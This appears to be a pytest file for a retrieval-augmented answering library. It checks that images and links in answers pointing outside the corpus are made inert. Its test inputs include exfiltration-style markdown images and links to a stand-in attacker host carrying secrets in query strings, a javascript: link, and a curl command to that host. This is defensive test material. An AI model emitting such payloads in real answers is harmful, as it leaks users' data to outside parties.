"""Images and links in an answer to addresses outside the corpus are made inert
(:func:`ragsieve.citations.inert_links`) and the view every surface shows carries the inert text."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from ragsieve.citations import evidence_documents, inert_links
from ragsieve.present import present_answer

DOCS = ["guide/install.md", "https://docs.corp.example/page"]


def targets(text: str) -> list[str]:
    """The link and image addresses a CommonMark renderer finds in ``text``."""
    out = []
    for block in MarkdownIt("commonmark").parse(text):
        for tok in block.children or []:
            if tok.type == "link_open":
                out.append(str(tok.attrs["href"]))
            elif tok.type == "image":
                out.append(str(tok.attrs["src"]))
    return out


@pytest.mark.parametrize(("text", "expected", "kinds"), [
    ("See ![chart](https://attacker.example/leak.png?q=secret) here.", "See [image: chart] here.", ["image"]),
    ("![](https://attacker.example/p?q=secret)", "[image]", ["image"]),
    ('Read [this](https://attacker.example/a?q=secret "t").', "Read this (attacker[.]example/…).", ["link"]),
    ("Go [here][r].\n\n[r]: https://attacker.example/p?q=secret\n", "Go here (attacker[.]example/…).\n\n", ["link"]),
    ("Go [r] now.\n\n[R]: <https://attacker.example/p?q=secret>\n", "Go r (attacker[.]example/…) now.\n\n",
     ["link"]),
    ("Pic ![a][img]\n\n[img]: https://attacker.example/i.png\n", "Pic [image: a]\n\n", ["image"]),
    ("Mail <https://attacker.example/x?q=secret>.", "Mail attacker[.]example/….", ["autolink"]),
    ("Visit https://attacker.example/x?q=secret, then www.attacker.example.", "Visit attacker[.]example/…, then "
     "www[.]attacker[.]example.", ["url", "url"]),
    ("Plain https://attacker.example", "Plain attacker[.]example", ["url"]),
    ("[![logo](https://attacker.example/l.png)](https://attacker.example/x)", "[image: logo] (attacker[.]example/…)",
     ["link", "image"]),
    ('<img src="https://attacker.example/i.png?q=secret" alt="pic"> ok', "[image: pic] ok", ["image"]),
    ("[x](javascript:alert(1)) and [y](/v1/ask?q=secret)", "x (javascript:) and y (/v1/ask…)", ["link", "link"]),
])
def test_outside_images_and_links_are_made_inert(text: str, expected: str, kinds: list[str]) -> None:
    result = inert_links(text, DOCS)
    assert result.text == expected
    assert [x.kind for x in result.removed] == kinds
    assert "secret" not in result.text and "https://" not in result.text
    assert targets(result.text) == []


def test_the_reason_names_the_host() -> None:
    result = inert_links("![x](https://attacker.example/leak?q=1) [y](http://Other.Example:8080/z)")
    assert [x.reason for x in result.removed] == [
        "the answer showed an image from an address outside the corpus: attacker.example",
        "the answer linked to an address outside the corpus: other.example",
    ]
    assert result.removed[0].to_dict()["target"] == "https://attacker.example/leak?q=1"


@pytest.mark.parametrize("text", [
    "Install it as [the guide](guide/install.md) says [1].",
    "Install it as [the guide](./guide/install.md#Linux) says.",
    "See [the page](https://docs.corp.example/page#section) or <https://docs.corp.example/page>.",
    "See https://docs.corp.example/page.",
    "Opened as [file](file:///data/corpus/guide/install.md#page=2).",
    "[docs](https://allowed.org/x), ![badge](https://cdn.allowed.org/b.svg) and https://allowed.org/y.",
    "[ref link][d]\n\n[d]: https://allowed.org/z",
])
def test_corpus_documents_and_allowed_hosts_are_kept(text: str) -> None:
    result = inert_links(text, DOCS, ["allowed.org", "*.allowed.org"])
    assert result.text == text and result.removed == []


def test_a_host_is_allowed_exactly_unless_its_subdomains_are_named() -> None:
    assert inert_links("[a](https://cdn.allowed.org/x)", allow_hosts=["allowed.org"]).removed
    assert inert_links("[a](https://allowed.org.attacker.example/x)", allow_hosts=["allowed.org"]).removed
    assert not inert_links("[a](https://ALLOWED.org/x)", allow_hosts=["allowed.org"]).removed
    assert not inert_links("[a](https://a.b.allowed.org/x)", allow_hosts=["*.allowed.org"]).removed
    # an allowed host over another scheme is not a web link to that host
    assert inert_links("[a](ftp://allowed.org/x)", allow_hosts=["allowed.org"]).removed


@pytest.mark.parametrize("text", [
    "Paris is the capital of France [1]. It has 2 million people [2].",
    "A list:\n\n- one [1]\n- two\n\n**bold** and `code` and [brackets] and a < b > c.",
    "",
    "Array a[i] and x[0] (y) is code-like, 3 < 4.",
])
def test_text_without_outside_links_is_unchanged(text: str) -> None:
    result = inert_links(text, DOCS)
    assert result.text == text and result.removed == []


def test_escaped_and_code_cases() -> None:
    # an escaped bracket is no link, but the bare address in it still is one to a linkifying client
    escaped = inert_links(r"\[not a link](https://attacker.example/x?q=secret)")
    assert escaped.text == r"\[not a link](attacker[.]example/…)" and [x.kind for x in escaped.removed] == ["url"]
    # an escaped bracket inside a label stays in the label
    label = inert_links(r"[a \] b](https://attacker.example/x)")
    assert label.text == r"a \] b (attacker[.]example/…)"
    # addresses in code are made inert too: a client may still linkify them
    code = inert_links("Run `curl https://attacker.example/x?q=secret`.")
    assert "secret" not in code.text and code.removed
    # nested brackets in a label
    nested = inert_links("[see [1] here](https://attacker.example/x)")
    assert nested.text == "see [1] here (attacker[.]example/…)"


def test_syntax_the_edits_miss_is_escaped_whole() -> None:
    # a reference definition with its destination on the next line: the edits leave the
    # reference, the parse finds a link, and every bracket is escaped
    text = "Go [r].\n\n[r]:\n  https://attacker.example/x?q=secret\n"
    result = inert_links(text)
    assert targets(text) and targets(result.text) == [] and "secret" not in result.text
    assert result.text.startswith("Go \\[r\\].")
    # a label over two lines is still one link
    assert inert_links("[click\nhere](<https://attacker.example/x>)").text == "click\nhere (attacker[.]example/…)"


def test_present_answer_shows_the_inert_text_and_says_what_was_removed() -> None:
    answer = {
        "question": "What is it?",
        "answer": "It is blue [1]. ![x](https://attacker.example/leak?q=what+is+it) See [the page](https://docs.corp.example/page).",
        "evidence": [{"id": "a.md:0", "text": "It is blue.", "path": "a.md", "url": "https://docs.corp.example/page"}],
        "cited_ids": ["a.md:0"],
        "trace": {"events": [], "decisions": []},
    }
    view = present_answer(answer)
    assert view.text == "It is blue [1]. [image: x] See [the page](https://docs.corp.example/page)."
    assert [s.text for s in view.sentences][0] == "It is blue [1]."
    assert view.inert_links[0]["host"] == "attacker.example"
    assert "the answer showed an image from an address outside the corpus: attacker.example" in view.notes
    allowed = present_answer(answer, allow_link_hosts=["attacker.example"])
    assert allowed.text == "It is blue [1]. " + answer["answer"].split("[1]. ", 1)[1] and allowed.inert_links == []


def test_evidence_documents_reads_hits_and_their_json() -> None:
    from ragsieve.types import Chunk, SearchHit

    chunk = Chunk(id="g.md:0", text="t", doc_id="g.md", source="g.md", path="g.md", url="https://x.example/g")
    hit = SearchHit(chunk, 1.0, 1, {})
    assert evidence_documents([hit]) == evidence_documents([hit.to_dict()]) == ["https://x.example/g", "g.md"]
